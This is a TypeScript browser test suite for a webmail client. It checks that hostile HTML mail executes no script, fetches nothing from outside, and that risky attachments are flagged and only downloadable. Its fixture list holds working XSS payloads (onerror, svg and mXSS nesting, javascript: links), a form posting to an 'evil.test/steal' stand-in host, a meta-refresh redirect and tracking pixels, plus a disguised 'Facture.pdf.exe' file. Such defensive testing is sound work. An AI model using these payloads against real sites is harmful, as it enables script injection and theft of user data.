import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import type { Page, Request } from 'playwright-core';
import {
  chromiumMissing,
  goAvailable,
  messagesOf,
  openRow,
  openWindow,
  rowOf,
  saidIn,
  type Window,
} from './support/browser.ts';
import { startFloor, type Floor } from './support/floor.ts';
import { sendMail } from './support/mail.ts';

const skip = chromiumMissing();
let floor: Floor;
let window: Window;
let page: Page;
const alarms: string[] = [];
const requests: Request[] = [];
before(async () => {
  if (skip) return;
  window = await openWindow();
  floor = await startFloor({ agents: [{ name: 'Nadia Fortin', login: 'nadia', inboxLimit: 50 }] });
  page = await window.page(floor, 'nadia');
  await page.exposeFunction('fired', (what: string) => void alarms.push(what));
  page.on('dialog', (dialog) => {
    alarms.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('popup', (popup) => alarms.push(`popup ${popup.url()}`));
  page.context().on('request', (request) => requests.push(request));
  await goAvailable(page);
});
after(async () => {
  await window?.close();
  await floor?.stop();
});

const FIRE = `(parent.fired||fired)('ran')`;
const HOSTILE = [
  `<script>${FIRE}</script>`,
  `<img src=x onerror="${FIRE}">`,
  `<svg onload="${FIRE}"><script>${FIRE}</script><animate onbegin="${FIRE}" attributeName=x dur=1s></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror="${FIRE}"></style></mglyph></form></mtext></math>`,
  `<iframe srcdoc="<script>parent.${FIRE}</script>"></iframe>`,
  `<object data="data:text/html,<script>parent.${FIRE}</script>"></object><embed src="javascript:${FIRE}">`,
  `<form action="https://evil.test/steal"><input name=a autofocus onfocus="${FIRE}"><button>Continuer</button></form>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.test/away"><base href="https://evil.test/">`,
  `<link rel="stylesheet" href="https://evil.test/s.css"><style>@import "https://evil.test/i.css";body{background:url(https://evil.test/b.png)}</style>`,
  `<p style="background-image:url('https://evil.test/p.png');position:fixed;inset:0">Couvert</p>`,
  `<video src="https://evil.test/v.mp4" poster="https://evil.test/v.png" onloadstart="${FIRE}"></video>`,
  `<details open ontoggle="${FIRE}"><summary>Détails</summary></details>`,
  `<a href="javascript:${FIRE}" id="trap">Cliquez ici</a>`,
  `<table background="https://evil.test/t.png"><tr><td>Cellule</td></tr></table>`,
  `<img src="https://evil.test/pixel.gif" width="1" height="1"><img srcset="https://evil.test/set.png 2x">`,
].join('\n');

test('the most hostile mail runs nothing, fetches nothing and sends nobody away', { skip }, async () => {
  await sendMail(floor, { subject: 'Hostile', text: 'x', html: `${HOSTILE}<p>Fin du message</p>` });
  await rowOf(page, 'Hostile').waitFor();
  requests.length = 0;
  await openRow(page, 'Hostile');
  const message = messagesOf(page).last();
  await saidIn(message, 'Fin du message').waitFor();
  const frame = message.locator('iframe');
  const sandbox = (await frame.getAttribute('sandbox'))!.split(/\s+/);
  assert.ok(
    !sandbox.includes('allow-scripts') && !sandbox.includes('allow-forms') && !sandbox.includes('allow-top-navigation'),
  );
  await saidIn(message, 'Cliquez ici').click();
  // A second interaction opens only if the page still stands and answers: what could run had its chance.
  await sendMail(floor, { subject: 'Après', html: '<p>Toujours là</p>' });
  await rowOf(page, 'Après').waitFor();
  await openRow(page, 'Après');
  await saidIn(messagesOf(page).last(), 'Toujours là').waitFor();
  assert.deepEqual(alarms, []);
  const own = new URL(floor.url).origin;
  const strangers = requests
    .map((one) => one.url())
    .filter((url) => /^https?:/.test(url) && !url.startsWith(`${own}/`));
  assert.deepEqual(strangers, []);
  assert.deepEqual(
    requests.map((one) => new URL(one.url()).pathname).filter((path) => path.startsWith('/api/files/remote-image')),
    [],
  );
});

test('remote pictures wait until asked for, and then come through the house', { skip }, async () => {
  await openRow(page, 'Hostile');
  const message = messagesOf(page).last();
  const blocked = message.getByText(/images? distantes? bloquées?/);
  await blocked.waitFor();
  requests.length = 0;
  const [asked] = await Promise.all([
    page.context().waitForEvent('request', (one) => one.url().includes('/api/files/remote-image/')),
    message.getByRole('button', { name: 'Afficher' }).click(),
  ]);
  assert.equal(new URL(asked.url()).origin, new URL(floor.url).origin);
  assert.match(new URL(asked.url()).searchParams.get('url')!, /^https:\/\/evil\.test\//);
  assert.deepEqual(
    requests.filter((one) => one.url().startsWith('https://evil.test')),
    [],
  );
  assert.deepEqual(alarms, []);
});

test('a file that could run is marked, and can only be downloaded', { skip }, async () => {
  await sendMail(floor, {
    subject: 'Fichiers joints',
    attachments: [
      { filename: 'page.html', content: `<script>parent.${FIRE}</script>` },
      { filename: 'Facture.pdf.exe', content: 'MZ', contentType: 'application/pdf' },
    ],
  });
  await rowOf(page, 'Fichiers joints').waitFor();
  await openRow(page, 'Fichiers joints');
  const files = messagesOf(page).last().getByRole('list', { name: 'Pièces jointes' });
  await files.locator('[data-dangerous]').getByText('Facture.pdf.exe').waitFor();
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    files.getByRole('link', { name: /page\.html/ }).click(),
  ]);
  assert.equal(download.suggestedFilename(), 'page.html');
  const direct = await page.context().newPage();
  const address = (await files.getByRole('link', { name: /page\.html/ }).getAttribute('href'))!.replace(
    '?download',
    '',
  );
  const [forced] = await Promise.all([direct.waitForEvent('download'), direct.goto(address).catch(() => null)]);
  assert.equal(forced.suggestedFilename(), 'page.html');
  assert.deepEqual(alarms, []);
});
